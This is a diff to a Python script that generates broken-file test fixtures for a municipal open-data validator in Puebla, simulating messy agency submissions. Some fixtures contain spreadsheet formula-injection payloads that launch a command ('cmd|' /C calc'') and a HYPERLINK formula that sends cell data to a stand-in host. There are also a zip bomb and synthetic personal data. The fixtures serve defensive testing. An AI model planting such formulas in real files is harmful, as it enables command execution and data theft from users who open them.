@@ -198,9 +198,289 @@ def examples() -> dict[str, Callable[[], forms.Example]]:
     }
 
 
+# --- deliveries as agencies really send them (issue 14) --------------------------------
+#
+# Each example is another agency's submission with its own layout, encoding and tool:
+# a report printed to CSV with a title block, a LibreOffice/ODS sheet with a two-row
+# header, a semicolon-separated Windows export of an older system, Excel workbooks with
+# formulas or macros, zipped shapefiles made on Windows... Expected findings: esperado.yaml.
+
+AGENCIES = {
+    "dif": [21, "Sistema Municipal DIF", "Asistencia social a niñas, niños, personas mayores y familias.", "logo.png"],
+    "bienestar": [18, "Secretaría de Bienestar y Participación Ciudadana", "Programas sociales del municipio.",
+                  "logo.png"],
+    "movilidad": [15, "Secretaría de Movilidad", "Planea la movilidad y el transporte del municipio.", "logo.png"],
+    "tesoreria": [3, "Tesorería Municipal", "Recauda y administra los ingresos del municipio.", "logo.png"],
+    "seguridad": [25, "Secretaría de Seguridad Ciudadana", "Prevención del delito y atención de emergencias.",
+                  "logo.png"],
+    "ambiente": [27, "Secretaría de Medio Ambiente", "Protege el arbolado, los parques y el aire del municipio.",
+                 "logo.png"],
+    "sisp": [12, "Secretaría de Infraestructura y Servicios Públicos", "Obra pública y servicios municipales.",
+             "logo.png"],
+}
+
+
+def delivery(
+    agency: str,
+    dataset: str,
+    tema: str,
+    files: dict[str, bytes],
+    formatos: dict[str, str],
+    terms: list[tuple[str, str]],
+    visualizacion: str = "Tabla",
+) -> forms.Example:
+    """One agency's submission: one dataset, one resource per file."""
+    dependencia = list(AGENCIES[agency])
+    recursos = [
+        [name, visualizacion, f"{dataset} ({name})", forms.date(2024, 1, 1), forms.date(2024, 12, 31), 1, formato]
+        for name, formato in formatos.items()
+    ]
+    return forms.Example(
+        dependencias=[dependencia],
+        datasets=[[1, dataset, f"{dataset}, entregado por {dependencia[1]}.", "datos abiertos", dependencia[0],
+                   tema, "anual", "Laura Méndez Ríos", "laura.mendez@pueblacapital.gob.mx"]],
+        recursos=recursos,
+        diccionario=forms.dictionary(1, terms),
+        files={**files, "logo.png": forms.logo(agency.upper()[:4])},
+    )
+
+
+def xlsx_bytes(rows: list[list[object]], *, title: str = "Hoja1", merges: tuple[str, ...] = (),
+               after: Callable[[Workbook], None] | None = None) -> bytes:
+    book = Workbook()
+    sheet = book.active
+    sheet.title = title
+    for row in rows:
+        sheet.append(row)
+    for ref in merges:
+        sheet.merge_cells(ref)
+    if after:
+        after(book)
+    buffer = io.BytesIO()
+    book.save(buffer)
+    return reproducible_zip(buffer.getvalue())
+
+
+def with_member(data: bytes, name: str, content: bytes) -> bytes:
+    out = io.BytesIO(data)
+    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr(zipfile.ZipInfo(name, FIXED_TIME), content, zipfile.ZIP_DEFLATED)
+    return out.getvalue()
+
+
+def programa_obra_csv() -> forms.Example:
+    # SISP's work programme, printed from its report system to CSV (Windows line ends):
+    # title block, blank line, header on row 4, header repeated after a page break, notes.
+    header = ["obra", "colonia", "fecha_inicio", "inversion", "beneficiarios"]
+    lines = [
+        "H. AYUNTAMIENTO DE PUEBLA,,,,",
+        "PROGRAMA ANUAL DE OBRA PÚBLICA 2024,,,,",
+        ",,,,",
+        ",".join(header),
+        "Rehabilitación de la 14 Sur,Azcárate,2024-02-05,1850000,1200",
+        "Alumbrado en el parque Juárez,La Paz,2024-03-11,420000,800",
+        "Pavimentación de la 5 de Mayo,Centro,2024-04-01,2300000,2500",
+        ",".join(header),
+        "Bacheo en San Manuel,San Manuel,2024-05-06,310000,1800",
+        "Banquetas del mercado Zaragoza,Zaragoza,2024-06-03,560000,950",
+        ",,,,",
+        "Fuente: Secretaría de Infraestructura y Servicios Públicos,,,,",
+        "* Cifras preliminares al 30 de junio de 2024,,,,",
+    ]
+    content = ("\r\n".join(lines) + "\r\n").encode("utf-8")
+    return delivery("sisp", "Programa anual de obra pública", "Infraestructura y Servicios Públicos",
+                    {"programa_obra_2024.csv": content}, {"programa_obra_2024.csv": "CSV"},
+                    [(h, f"Columna {h} del programa de obra.") for h in header])
+
+
+def eventos_dif_csv() -> forms.Example:
+    # DIF's events log from an older system: semicolon-separated, Windows-1252, quantities
+    # with words, a percentage typed in the date column, Excel serial dates.
+    header = ["evento", "fecha", "asistencia", "avance"]
+    rows = [
+        ["Feria de la familia", "2024-02-10", "1,022 asistentes al evento", "100%"],
+        ["Jornada de salud", "45352", "2,598 participantes", "85%"],
+        ["Taller de lectura", "45%", "35 niñas y niños", "45%"],
+        ["Día del niño", "2024-04-30", "3,400 asistentes", "100%"],
+    ]
+    text = ";".join(header) + "\r\n" + "".join(";".join(r) + "\r\n" for r in rows)
+    return delivery("dif", "Eventos del DIF municipal", "Salud y Bienestar",
+                    {"eventos_dif.csv": text.encode("cp1252")}, {"eventos_dif.csv": "CSV"},
+                    [(h, f"{h.capitalize()} del evento.") for h in header])
+
+
+def padron_ods_dos_filas() -> forms.Example:
+    # Bienestar's register exported from LibreOffice Calc (.ods) with a grouped two-row header.
+    import pandas as pd
+
+    rows = [
+        ["Programa", None, "Apoyo", None],
+        ["programa", "colonia", "monto", "fecha_entrega"],
+        ["Mujeres emprendedoras", "Centro", 5000, "2024-03-01"],
+        ["Mujeres emprendedoras", "La Paz", 5000, "2024-03-01"],
+        ["Becas municipales", "Analco", 2500, "2024-03-15"],
+    ]
+    buffer = io.BytesIO()
+    pd.DataFrame(rows).to_excel(buffer, engine="odf", header=False, index=False)
+    terms = [("programa", "Programa social."), ("colonia", "Colonia."), ("monto", "Monto en pesos."),
+             ("fecha_entrega", "Fecha de entrega.")]
+    return delivery("bienestar", "Apoyos entregados por colonia", "Salud y Bienestar",
+                    {"apoyos_colonia.ods": reproducible_odf(buffer.getvalue())}, {"apoyos_colonia.ods": "ODS"}, terms)
+
+
+def reproducible_odf(data: bytes) -> bytes:
+    """Fixed member times and document dates; «mimetype» stays first and stored, as ODF requires."""
+    out = io.BytesIO()
+    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w") as target:
+        for info in source.infolist():
+            content = source.read(info.filename)
+            if info.filename == "meta.xml":
+                content = re.sub(rb"(<(?:meta:creation-date|dc:date)>)[^<]*", rb"\g<1>2024-01-01T00:00:00", content)
+            target.writestr(zipfile.ZipInfo(info.filename, FIXED_TIME), content, info.compress_type)
+    return out.getvalue()
+
+
+def pdf_como_csv() -> forms.Example:
+    pdf = b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\ntrailer\n%%EOF\n"
+    return delivery("tesoreria", "Ingresos por predial", "Finanzas", {"ingresos_predial.csv": pdf},
+                    {"ingresos_predial.csv": "CSV"}, [("mes", "Mes."), ("monto", "Monto recaudado.")])
+
+
+def html_como_xlsx() -> forms.Example:
+    # An expired download link saved "as Excel": the server's error page.
+    html = ("<!DOCTYPE html>\n<html lang='es'><head><title>Sesión expirada</title></head>"
+            "<body><h1>Su sesión ha expirado</h1></body></html>\n").encode()
+    return delivery("movilidad", "Aforos vehiculares", "Movilidad y Transporte", {"aforos.xlsx": html},
+                    {"aforos.xlsx": "XLSX"}, [("crucero", "Crucero."), ("vehiculos", "Vehículos por hora.")])
+
+
+def xlsx_con_macros() -> forms.Example:
+    data = xlsx_bytes([["colonia", "reportes"], ["Centro", 12], ["La Paz", 7]])
+    data = with_member(data, "xl/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 Attribute VB_Name")
+    return delivery("seguridad", "Reportes ciudadanos por colonia", "Seguridad y Justicia",
+                    {"reportes_colonia.xlsx": data}, {"reportes_colonia.xlsx": "XLSX"},
+                    [("colonia", "Colonia."), ("reportes", "Número de reportes.")])
+
+
+def xlsx_formulas() -> forms.Example:
+    rows = [
+        ["parque", "superficie_m2", "ficha"],
+        ["Parque Juárez", 32000, '=HYPERLINK("https://pueblacapital.gob.mx/parques/juarez","ficha")'],
+        ["Parque Ecológico", 580000, "=cmd|' /C calc'!A0"],
+        ["Paseo Bravo", "#REF!", "=B2*2"],
+    ]
+    return delivery("ambiente", "Parques y jardines", "Medio Ambiente",
+                    {"parques.xlsx": xlsx_bytes(rows, title="Parques")}, {"parques.xlsx": "XLSX"},
+                    [("parque", "Nombre del parque."), ("superficie_m2", "Superficie."), ("ficha", "Ficha web.")])
+
+
+def csv_inyeccion() -> forms.Example:
+    header = ["reporte", "colonia", "comentario"]
+    rows = [["R-001", "Centro", "Bache profundo"], ["R-002", "La Paz", '=HYPERLINK("http://ejemplo.invalido/?d="&A2,"ver")'],
+            ["R-003", "Analco", "@SUM(1+1)*cmd|' /C calc'!A0"]]
+    return delivery("seguridad", "Reportes del 072", "Infraestructura y Servicios Públicos",
+                    {"reportes_072.csv": forms.to_csv(header, rows)}, {"reportes_072.csv": "CSV"},
+                    [(h, f"{h.capitalize()}.") for h in header])
+
+
+def xlsx_bomba() -> forms.Example:
+    data = xlsx_bytes([["colonia", "luminarias"], ["Centro", 40]])
+    out = io.BytesIO(data)
+    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as archive:
+        info = zipfile.ZipInfo("xl/media/image1.bin", FIXED_TIME)
+        archive.writestr(info, b"\x00" * (60 * 1024 * 1024), zipfile.ZIP_DEFLATED)
+    return delivery("sisp", "Luminarias por colonia", "Infraestructura y Servicios Públicos",
+                    {"luminarias.xlsx": out.getvalue()}, {"luminarias.xlsx": "XLSX"},
+                    [("colonia", "Colonia."), ("luminarias", "Luminarias instaladas.")])
+
+
+def shp_en_carpeta() -> forms.Example:
+    # Made on Windows: right click on the folder > Enviar a > Carpeta comprimida; the DBF
+    # cut «arboles_plantados» to «arboles_pl».
+    frame = gpd.GeoDataFrame(
+        {"vivero": ["Flor del Bosque", "Amalucan"], "arboles_plantados": [120, 85]},
+        geometry=[Point(-98.1456, 19.0236), Point(-98.1548, 19.0697)],
+        crs=4326,
+    )
+    buffer = io.BytesIO()
+    with tempfile.TemporaryDirectory() as tmp:
+        frame.to_file(Path(tmp) / "reforestacion.shp", engine="pyogrio", encoding="utf-8")
+        dbf = bytearray((Path(tmp) / "reforestacion.dbf").read_bytes())
+        dbf[1:4] = bytes([124, 1, 1])
+        (Path(tmp) / "reforestacion.dbf").write_bytes(dbf)
+        with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
+            for ext in ("shp", "shx", "dbf", "prj", "cpg"):
+                part = Path(tmp) / f"reforestacion.{ext}"
+                if part.exists():
+                    archive.writestr(zipfile.ZipInfo(f"reforestacion/{part.name}", FIXED_TIME), part.read_bytes(),
+                                     zipfile.ZIP_DEFLATED)
+    return delivery("ambiente", "Reforestación 2024", "Medio Ambiente", {"reforestacion.zip": buffer.getvalue()},
+                    {"reforestacion.zip": "SHP"},
+                    [("vivero", "Vivero de origen."), ("arboles_plantados", "Árboles plantados.")], "Mapa")
+
+
+def csv_coordenadas() -> forms.Example:
+    header = ["paradero", "ruta", "latitud", "longitud"]
+    rows = [["Paradero CU", "RUTA 1", "19.0019", "-98.2033"], ["Paradero Capu", "RUTA 2", "0", "0"],
+            ["Paradero 11 Sur", "RUTA 3", "-98.2115", "19.0279"], ["Paradero Xonaca", "RUTA 2", "19.0533", "-98.1797"]]
+    return delivery("movilidad", "Paraderos de transporte", "Movilidad y Transporte",
+                    {"paraderos.csv": forms.to_csv(header, rows)}, {"paraderos.csv": "CSV"},
+                    [(h, f"{h.capitalize()} del paradero.") for h in header])
+
+
+def solicitudes_personales() -> forms.Example:
+    # Bienestar's applications exported from Excel: a CURP with a typo in its last
+    # character, phones inside comments, home addresses, NSS typed as numbers (lost zero),
+    # and programme folios that only look like CURP.
+    from stdnum import luhn
+
+    nss = "0" + "123456789"
+    nss += luhn.calc_check_digit(nss)
+    good = CURP
+    typo = CURP[:-1] + str((int(CURP[-1]) + 1) % 10)
+    rows = [
+        ["folio", "domicilio", "nss", "observaciones", "curp"],
+        ["PBEC240115HPUEBA01", "Privada Las Flores #12, Col. Los Pinos", int(nss),
+         "Llamar al 22 21 23 45 67 por la tarde", good],
+        ["PBEC240116MPUEBA02", "Calle 3 Poniente 1107", 9876543210, "Se le notificó al 222 555 0143", typo],
+        ["PBEC240117HPUEBA03", "", None, "Sin observaciones", ""],
+    ]
+    terms = [("folio", "Folio del apoyo."), ("domicilio", "Domicilio del solicitante."),
+             ("nss", "Número de seguridad social."), ("observaciones", "Comentarios."), ("curp", "CURP.")]
+    return delivery("bienestar", "Solicitudes de apoyo", "Salud y Bienestar",
+                    {"solicitudes.xlsx": xlsx_bytes(rows, title="Solicitudes")}, {"solicitudes.xlsx": "XLSX"}, terms)
+
+
+def real_world() -> dict[str, Callable[[], forms.Example]]:
+    return {
+        "datos-reporte-con-titulo": programa_obra_csv,
+        "datos-valores-con-unidades": eventos_dif_csv,
+        "datos-ods-dos-filas-encabezado": padron_ods_dos_filas,
+        "datos-pdf-renombrado": pdf_como_csv,
+        "datos-html-renombrado": html_como_xlsx,
+        "datos-xlsx-con-macros": xlsx_con_macros,
+        "datos-formulas": xlsx_formulas,
+        "datos-inyeccion-csv": csv_inyeccion,
+        "datos-bomba-zip": xlsx_bomba,
+        "datos-shp-en-carpeta": shp_en_carpeta,
+        "datos-coordenadas": csv_coordenadas,
+        "datos-personales-solicitudes": solicitudes_personales,
+    }
+
+
+def macro_form(folder: Path) -> None:
+    """The FORM.317 itself with a VBA project (an .xlsm saved under .xlsx)."""
+    (folder / "FORM.317.xlsx").unlink(missing_ok=True)  # written from scratch: reproducible_zip fixes the times
+    forms.base().write(folder)
+    path = folder / "FORM.317.xlsx"
+    data = with_member(path.read_bytes(), "xl/vbaProject.bin", b"\xd0\xcf\x11\xe0 Attribute VB_Name")
+    path.write_bytes(reproducible_zip(data))
+
+
 def main() -> None:
-    for name, make in examples().items():
+    for name, make in {**examples(), **real_world()}.items():
         make().write(forms.ROTOS / name)
+    macro_form(forms.ROTOS / "formulario-con-macros")
     print(f"Ejemplos de datos escritos en {forms.ROTOS}")
 
 
